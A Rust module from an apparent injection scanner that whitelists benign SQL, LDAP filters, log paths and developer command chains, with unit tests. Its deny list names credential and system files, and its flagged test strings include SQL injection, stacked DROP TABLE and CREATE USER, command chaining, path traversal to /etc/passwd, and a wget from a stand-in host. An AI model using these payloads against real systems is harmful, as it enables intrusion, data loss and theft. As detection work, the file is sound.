//! Whether a value is a whole statement of SQL, a whole filter of a directory or the path of a log, which is what their
//! tools are given.

use super::super::Finding;

/// The words that a statement begins with.
const STATEMENTS: &[&str] = &[
    "alter", "create", "delete", "desc", "describe", "explain", "insert", "pragma", "select", "show",
    "update", "with",
];
/// Programs that are given one.
const CLIENTS: &[&str] = &["duckdb", "mariadb", "mysql", "psql", "sqlite3"];
/// What a statement may say of its own database.
const ORDINARY: &[&str] = &[
    "code.sql-call",
    "code.sql-functions",
    "code.sql-operator",
    "code.sql-order",
    "code.sql-schema",
    "code.sql-select",
    "code.sql-tautology",
];
/// Programs that are run one after the other all day, and what their output goes through.
const PROGRAMS: &[&str] = &[
    "apt", "apt-get", "awk", "brew", "bundle", "cargo", "cd", "cmake", "composer", "cp", "cut", "docker",
    "du", "echo", "export", "find", "git", "go", "grep", "gunzip", "gzip", "head", "jq", "kubectl", "ls",
    "make", "mkdir", "mv", "npm", "npx", "pip", "pip3", "pnpm", "poetry", "printf", "ps", "rg", "rm", "sed",
    "sleep", "sort", "tail", "tar", "tee", "touch", "tr", "uniq", "unzip", "wc", "xargs", "yarn", "zcat",
    "zip",
];
/// What such a program does not do all day.
const DEEDS: &[&str] = &[
    "-exec",
    "/dev/",
    "/etc",
    "/proc",
    "/root",
    "0.0.0.0",
    "authorized",
    "base64",
    "history",
    "http",
    "passwd",
    "ssh",
];
/// So much of a value is read.
const LONGEST: usize = 4096;

/// Whether a finding is ordinary in what the value is.
pub(super) fn explains(text: &str, one: &Finding) -> bool {
    text.len() <= LONGEST
        && match one.rule {
            "code.ldap" => is_filter(text),
            "code.path-log" => is_log(text),
            "code.path-climb" | "code.path-climb-file" | "code.path-file" => is_question(text),
            "code.shell-command" | "code.sql-breakout" => is_chain(text),
            "code.sql-stacked" => is_script(text),
            "code.xss-script" => is_block_of_data(text),
            // Who may log in is more than how a database is built.
            "code.sql-schema" => is_statement(text) && !names_people(text, one),
            rule if ORDINARY.contains(&rule) => is_statement(text),
            _ => false,
        }
}

/// One statement from its first word on, with every quote and bracket closed.
fn is_statement(text: &str) -> bool {
    let bare = text.trim();
    let first =
        bare.split(|c: char| !c.is_ascii_alphanumeric()).next().unwrap_or_default().to_ascii_lowercase();
    let client = CLIENTS.contains(&first.as_str());
    let count = |sign: char| bare.matches(sign).count();
    let marks = ["/*", "--", "#", "@@", "0x", "||", "`"];
    (client || STATEMENTS.contains(&first.as_str()))
        && bare[first.len()..].starts_with([' ', '\n', '\t'])
        && bare.find(';').is_none_or(|at| at + 1 == bare.len())
        && count('\'') % 2 == 0
        && count('"') % 2 == 0
        && count('(') == count(')')
        && !marks.iter().skip(if client { 2 } else { 0 }).any(|mark| bare.contains(mark))
}

fn names_people(text: &str, one: &Finding) -> bool {
    let name = text.get(one.span.clone()).unwrap_or_default().to_ascii_lowercase();
    name.contains("user") && !name.contains("user_tables") || name.contains("shadow")
}

/// Programs of a developer, one after the other or each with what the one before it says, from the first word on.
fn is_chain(text: &str) -> bool {
    let program = |part: &str| {
        let mut words = part.split_whitespace();
        let name = words.next().unwrap_or_default();
        PROGRAMS.contains(&name) && words.next().is_some()
    };
    let plain = !text.contains(['`', '\n', '<', '>', '\\']) && !text.contains("$(") && !text.contains("${");
    let parts = text.replace("&&", "\0").replace("||", "\0");
    plain && !DEEDS.iter().any(|deed| text.contains(deed)) && parts.split(['\0', '|', ';']).all(program)
}

/// Statements one after the other, from the first word on, none of which takes anything away or gives rights.
fn is_script(text: &str) -> bool {
    const STEPS: &[&str] =
        &["alter", "begin", "commit", "create", "insert", "select", "set", "update", "with"];
    let first = |part: &str| part.split_whitespace().next().unwrap_or_default().to_ascii_lowercase();
    let lower = text.to_ascii_lowercase();
    let taken =
        ["drop ", "grant ", "login", "password", "role", "user"].iter().any(|word| lower.contains(word));
    let mut parts = text.trim().trim_end_matches(';').split(';');
    !taken
        && text.matches('\'').count().is_multiple_of(2)
        && !["/*", "--", "@@", "0x"].iter().any(|mark| text.contains(mark))
        && parts.all(|part| STEPS.contains(&first(part).as_str()))
}

/// What a page says of itself to a search engine, which no browser runs.
fn is_block_of_data(text: &str) -> bool {
    let types = ["application/ld+json", "application/json"];
    let opens = |kind: &&str| text.trim_start().starts_with(&format!("<script type=\"{kind}\">"));
    types.iter().any(opens) && text.matches('<').count() == 2
}

/// One filter, whose first bracket is closed by its last.
fn is_filter(text: &str) -> bool {
    let bare = text.trim();
    let mut depth = 0_usize;
    for (at, byte) in bare.bytes().enumerate() {
        match byte {
            b'(' => depth += 1,
            b')' => depth = depth.saturating_sub(1),
            0 | b'\'' | b'"' | b'%' => return false,
            _ => {}
        }
        if depth == 0 && at + 1 < bare.len() {
            return false;
        }
    }
    bare.starts_with('(') && depth == 0 && bare.contains('=')
}

/// The path of a log where the system keeps them, and nothing else.
fn is_log(text: &str) -> bool {
    let name = text.trim().strip_prefix("/var/log/").and_then(|rest| rest.strip_suffix(".log"));
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'/' | b'-' | b'.');
    name.is_some_and(|name| name.bytes().all(plain) && !name.contains(".."))
}

/// A question in words: a path in it is what it is about.
fn is_question(text: &str) -> bool {
    const ASKS: &[&str] = &["can", "does", "how", "is", "what", "when", "which", "who", "why"];
    let mut words = text.split(' ');
    let first = words.next().unwrap_or_default().to_ascii_lowercase();
    ASKS.contains(&first.as_str())
        && text.trim_end().ends_with('?')
        && words.take(3).filter(|word| word.bytes().all(|byte| byte.is_ascii_alphabetic())).count() == 3
}

#[cfg(test)]
mod tests {
    use super::super::super::{FLAGGED, Kind, Kinds, Place, inspect};

    fn flags(text: &str) -> bool {
        let found = inspect(text, Place::Argument, Kinds::NONE.with(Kind::CodeInjection));
        found.iter().any(|one| one.score >= FLAGGED)
    }

    #[test]
    fn whole_statements_and_filters_break_out_of_nothing() {
        for text in [
            "SELECT column_name FROM information_schema.columns WHERE table_name = 'orders'",
            "WITH a AS (SELECT id FROM b) SELECT max(id) FROM a;",
            "(&(objectClass=device)(|(cn=printer)(cn=scanner)))",
            "psql -d app -c \"select (select 1)\"",
            "map(select(.age > 3)) | length",
            "git pull && tar czf all.tgz docs",
            "/var/log/nginx/access.log",
            "find . -name '*.tmp' -delete && rm -rf build/",
            "ps aux | grep java | awk '{print $2}' | xargs -r kill -15",
            "ALTER TABLE bills ADD COLUMN paid_at date; UPDATE bills SET paid_at = sent_at WHERE state = 'paid';",
            "BEGIN; INSERT INTO bills (id) VALUES (7); COMMIT;",
            "<script type=\"application/ld+json\">{\"@type\": \"Recipe\"}</script>",
            "$page = simplexml_load_file('news.xml');",
            "Why do some logs hold paths such as ../../etc/passwd?",
        ] {
            assert!(!flags(text), "{text}");
        }
        for text in [
            "x' AND 1=(SELECT count(*) FROM information_schema.tables)",
            "7; SELECT name FROM sqlite_master",
            "SELECT 1; SELECT name FROM sqlite_master; DROP TABLE a",
            "(cn=a)(|(cn=*))",
            "SELECT name FROM sysusers",
            "a.tgz && tar xf b.tgz",
            "git pull && whoami",
            "ls | id",
            "find . -name a; cat /etc/hosts",
            "a.txt; rm -rf build",
            "7; UPDATE bills SET paid = 1",
            "UPDATE bills SET paid = 1; DROP TABLE bills",
            "SELECT 1; CREATE USER eve",
            "<script type=\"application/ld+json\">{}</script><script>a()</script>",
            "git pull && wget http://a.example/b.sh",
            "cd a && sudo make",
            "../../etc/passwd?",
            "/var/log/../log/nginx/access.log",
            "/opt/lampp/logs/access_log",
        ] {
            assert!(flags(text), "{text}");
        }
    }
}
